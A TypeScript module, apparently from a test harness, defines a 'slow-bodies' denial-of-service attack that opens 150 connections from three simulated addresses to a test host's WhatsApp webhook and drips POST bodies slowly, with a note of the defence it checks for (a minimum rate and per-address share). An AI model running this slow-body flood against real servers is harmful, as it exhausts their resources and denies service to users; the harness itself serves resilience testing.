import { attackerAddress } from '../addresses.ts'
import type { Attack } from '../attack.ts'
import { MIB } from '../bodies.ts'

const ADDRESSES = 3
const LANES = 150
const EVERY_MS = 250
/** Bytes that come at once, and then each time: most of a large body, then nothing but a sign of life; or ever so little. */
const PATTERNS = [
  [4 * MIB - 4_096, 1],
  [0, 1],
  [0, 64],
  [0, 300],
  [0, 2_048]
] as const
const HEAD = `POST /webhooks/whatsapp HTTP/1.1\r\nhost: attacks.test\r\ncontent-length: ${4 * MIB}\r\n\r\n`

export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: '150 bodies from 3 addresses that drip, from 4 bytes to 8 KiB a second, some after 4 MiB at once',
  seconds: 15,
  async run({ repeat, connect, write, pause }) {
    await repeat(LANES, async (lane) => {
      const socket = await connect(attackerAddress(1 + (lane % ADDRESSES)))
      const [first, then] = PATTERNS[lane % PATTERNS.length] ?? [0, 1]
      if (socket === undefined) return
      await write(socket, HEAD)
      await write(socket, Buffer.alloc(first, 'a'))
      while (await write(socket, Buffer.alloc(then, 'a'))) await pause(EVERY_MS)
      socket.destroy()
    })
  },
  control: { without: 'a minimum rate and a share for each address', violates: ['requests'] }
}
